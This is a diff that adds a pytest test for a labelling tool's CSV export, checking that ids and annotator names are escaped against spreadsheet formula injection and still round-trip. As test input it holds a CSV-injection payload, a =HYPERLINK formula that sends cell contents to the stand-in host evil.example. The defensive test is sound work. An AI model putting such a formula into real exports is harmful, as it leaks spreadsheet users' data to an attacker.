@@ -163,3 +163,41 @@ def test_file_names_are_safe_and_unique() -> None:
     for bad in ("a/b", "..", ".hidden", ""):
         with pytest.raises(exports.ExportError):
             exports.check_class_folder(bad)
+
+
+def test_csv_cells_are_never_spreadsheet_formulas_and_still_round_trip(running: Running, tmp_path: Path) -> None:
+    """Ids and annotator names that start with = + - @ (a spreadsheet runs them as formulas: =HYPERLINK can
+    send cells away) are written with a leading ' (OWASP), and one that starts with ' gets one too; our
+    readers (read_csv_rows, read_ids, `label`'s and `retract-labels --if-current`'s) read the names back as
+    given, so an export still drives `retract-labels --if-current`."""
+    import csv
+
+    ids = ["=2+5", "+x", "-y", "@z", "'q", "''r", "'=s", "ok"]
+    who = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    samples = make_samples(len(ids))
+    for s, i in zip(samples, ids, strict=True):
+        s.id = i
+    assert client.ingest(running.stub, samples).accepted == len(ids)
+    client.submit_labels(running.stub, [(i, "cat") for i in ids], who)
+    out = tmp_path / "export"
+    code, text = cli(running, "--out", str(out), "--format", "csv,imagefolder", "--prior-method", "")
+    assert code == 0, text
+    with open(out / "labels.csv", newline="", encoding="utf-8") as f:
+        raw = list(csv.DictReader(f))
+    with open(out / "imagefolder" / exports.IDS_FILE, newline="", encoding="utf-8") as f:
+        raw_ids = [r["id"] for r in csv.DictReader(f)]
+    for cell in [c for r in raw for c in r.values()] + raw_ids:
+        assert not cell or cell[0] not in "=+-@\t\r", cell
+    assert {r["id"] for r in raw} == {"'=2+5", "'+x", "'-y", "'@z", "''q", "'''r", "''=s", "ok"}
+    assert {r["annotator"] for r in raw} == {"'" + who}
+    rows = exports.read_csv_rows(out / "labels.csv")
+    assert sorted(r["id"] for r in rows) == sorted(ids) and {r["annotator"] for r in rows} == {who}
+    assert sorted(exports.read_ids(out / "imagefolder").values()) == sorted(ids)
+    assert sorted(i for _, i, _ in read_labels_csv(out / "labels.csv")) == sorted(ids)
+    for value in [*ids, "", "'", "-", "x'=", "\t=a"]:
+        assert exports.csv_unescape(exports.csv_escape(value)) == value
+    res = runner.invoke(app, ["retract-labels", "--file", str(out / "labels.csv"), "--if-current", "--annotator",
+                              "lead", "--agent", running.address, "--json"])
+    got = json.loads(res.stdout)
+    assert res.exit_code == 0 and got["accepted"] == len(ids) and not got["rejected"], res.output
+    assert not list(client.list_labels(running.stub))
